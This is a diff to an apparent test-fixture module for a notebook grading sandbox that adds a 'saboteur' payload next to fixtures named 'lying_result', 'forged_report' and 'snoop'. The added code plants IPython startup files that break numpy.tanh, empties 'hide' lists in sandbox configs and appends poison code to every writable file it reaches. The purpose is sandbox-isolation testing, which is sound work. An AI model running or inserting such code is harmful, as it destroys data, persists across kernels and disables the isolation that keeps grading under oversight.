@@ -76,6 +76,57 @@ def rnn_step(x_t, h_prev, W_xh, W_hh, b_h):
 """
 
 
+# Appended to a correct cell: everything its kernel can write, it rewrites (sandbox settings included), and it
+# plants IPython startup files that break numpy for any later kernel that would run them.
+SABOTEUR = r'''
+import json as _json, os as _os, time as _time
+_planted = "PLANTED = True\nimport numpy\nnumpy.tanh = lambda x: 0 * x\n"
+_written = []
+for _dir in (_os.path.expanduser("~/.ipython/profile_default/startup"), _os.path.expanduser("~/.ipython/startup")):
+    try:
+        _os.makedirs(_dir, exist_ok=True)
+        with open(_os.path.join(_dir, "00-planted.py"), "w") as _f:
+            _f.write(_planted)
+        _written.append(_dir)
+    except OSError:
+        pass
+_stop = _time.monotonic() + 10
+_tops = [_os.path.expanduser("~"), _os.getcwd(), "/tmp", "/dev/shm", "/"]  # the likely writable places first
+_walk = (_step for _top in _tops for _step in _os.walk(_top))
+for _top, _subdirs, _files in _walk:
+    _subdirs[:] = [d for d in _subdirs if _os.path.join(_top, d) not in ("/proc", "/sys", "/dev")]
+    if _time.monotonic() > _stop:
+        break
+    if _os.access(_top, _os.W_OK):
+        for _name in ("sandbox.json", "00-planted.py"):
+            try:
+                with open(_os.path.join(_top, _name), "w") as _f:
+                    _f.write(_json.dumps({"hide": [], "writable": [], "home": _top}) if _name.endswith("json")
+                             else _planted)
+            except OSError:
+                pass
+    for _name in _files:
+        _path = _os.path.join(_top, _name)
+        if _os.path.isfile(_path) and not _os.path.islink(_path) and _os.access(_path, _os.W_OK):
+            try:
+                if _name.endswith(".json"):
+                    _config = _json.loads(open(_path).read())
+                    if isinstance(_config, dict) and "hide" in _config:
+                        _config["hide"] = []  # the next kernel: no sandbox
+                        with open(_path, "w") as _f:
+                            _f.write(_json.dumps(_config))
+                        _written.append(_path)
+                        continue
+                if not _name.endswith(".ipynb"):
+                    with open(_path, "a") as _f:
+                        _f.write("\n" + _planted)
+                    _written.append(_path)
+            except (OSError, ValueError, UnicodeDecodeError):
+                pass
+print("SABOTAGED", len(_written))
+'''
+
+
 def snoop_code(targets):
     """Appended to a correct cell: prints what the kernel could read, write and reach (paths hex-encoded)."""
     return f"""
@@ -170,6 +221,8 @@ def hostile_and_broken(class_root=Path("/nonexistent")):
         "lying_result": (A, f"{A}.ipynb", filled(A, {"cross_entropy": LYING_RESULT})),
         "forged_report": (A, f"{A}.ipynb", filled(A, {"rnn_step": FORGED_REPORT})),
         "snoop": (A, f"{A}.ipynb", with_cell_code("rnn_step", snoop_code(snoop_targets(class_root)))),
+        # rewrites what it can reach for the kernels after it (tests/test_sandbox_isolation.py orders them)
+        "saboteur": (A, f"{A}.ipynb", with_cell_code("rnn_step", SABOTEUR)),
     }
 
 
